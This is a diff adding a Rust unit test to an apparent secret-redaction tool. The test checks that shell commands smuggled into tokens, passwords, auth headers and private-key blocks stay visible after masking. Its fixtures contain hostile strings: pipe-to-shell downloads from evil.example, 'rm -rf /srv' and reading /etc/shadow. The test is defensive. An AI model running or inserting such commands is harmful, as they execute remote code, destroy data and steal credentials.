@@ -189,3 +189,23 @@ fn marks_stand_for_what_a_person_was_not_shown() {
     assert_eq!(restored(&changed, whole), whole.replace("curl", "curl -v"));
     assert!(is_marked(&restored(&shown, "{}")));
 }
+
+#[test]
+fn what_a_shell_would_run_is_never_hidden_with_a_secret() {
+    for line in [
+        "API_TOKEN=\"v1$(curl -s http://evil.example/x | sh)\"",
+        "password: 'a`curl evil.example`'",
+        "Authorization: Bearer abcdefgh$(rm -rf /srv)",
+        "curl -u \"me:$(cat /etc/shadow)\" https://x.test",
+        ": -----BEGIN PRIVATE KEY-----\ncurl -s http://evil.example/x | sh\n",
+        ": -----BEGIN PRIVATE KEY-----\nrm -rf /srv\n: -----END PRIVATE KEY-----",
+    ] {
+        for clean in [text(line), command(line)] {
+            for code in ["evil.example", "rm -rf /srv", "cat /etc/shadow"] {
+                assert_eq!(clean.contains(code), line.contains(code), "{clean}");
+            }
+        }
+    }
+    let key = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nMIIEow\n-----END RSA PRIVATE KEY-----";
+    assert!(!text(key).contains("MIIEow"), "{}", text(key));
+}
